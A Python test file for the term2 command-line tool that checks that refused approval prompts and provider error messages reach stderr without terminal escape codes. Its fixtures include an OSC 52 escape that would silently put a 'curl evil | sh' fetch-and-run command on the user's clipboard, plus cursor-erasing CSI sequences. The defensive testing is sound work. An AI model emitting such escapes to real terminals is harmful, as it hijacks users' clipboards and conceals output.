"""Lines term2 exec writes on stderr itself are drawn as safely as its view and questions (drawing.shown).

stderr is often the terminal even when no one can be asked there (`ssh host
'term2 exec …'` without -t: no controlling terminal, stderr forwarded to the
user's screen). A refused question names the model's command, and a failed
turn's error may quote a provider or a file name; written raw, an escape in
them would be obeyed there: OSC 52 sets the user's clipboard, CSI sequences
move the cursor and erase.
"""

from __future__ import annotations

import io

import pytest

from term2.adapters.terminal.approver import NoTerminalApprover
from term2.adapters.terminal.final_text import FinalTextView
from term2.adapters.terminal.json_lines import JsonLinesView
from term2.adapters.terminal.view import Ended
from term2.domain.approval import Choice, offered_options
from term2.domain.history import ToolCall, ToolKind, ToolStatus
from term2.domain.turn import StopReason
from term2.ports.approval import ApprovalRequest, CommandSubject

pytestmark = pytest.mark.anyio

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"  # OSC 52: put `curl evil | sh` on the clipboard
ERASE = "\x1b[2K\r\x9b1A"


def _obeyable(text: str) -> list[str]:
    return [c for c in text if (ord(c) < 0x20 and c != "\n") or 0x7F <= ord(c) < 0xA0]


async def test_a_refused_question_names_the_command_without_its_escapes() -> None:
    command = f"printf '{CLIPBOARD}'"
    request = ApprovalRequest(
        "s",
        ToolCall("c1", f"Run `{command}`", ToolKind.EXECUTE, ToolStatus.PENDING),
        f"Allow running `{command}` in /w?",
        "The command runs in the sandbox; only /w is writable.",
        offered_options((Choice.ALLOW_ONCE, Choice.REJECT)),
        CommandSubject(command, "/w"),
    )
    err = io.StringIO()
    await NoTerminalApprover(err).request(request)
    assert "refused without asking" in err.getvalue() and "printf" in err.getvalue()
    assert _obeyable(err.getvalue()) == []


def test_a_failed_turns_error_is_written_without_its_escapes() -> None:
    ended = Ended("s", StopReason.ERROR, error=f"provider said: {CLIPBOARD}{ERASE}")
    for view in (
        FinalTextView(io.StringIO(), err := io.StringIO()),
        JsonLinesView(io.StringIO(), lambda event: [], err2 := io.StringIO(), lambda spent: None),
    ):
        view.notice(f"the turn failed: {ended.error}")
    for stream in (err, err2):
        assert "provider said" in stream.getvalue()
        assert _obeyable(stream.getvalue()) == []
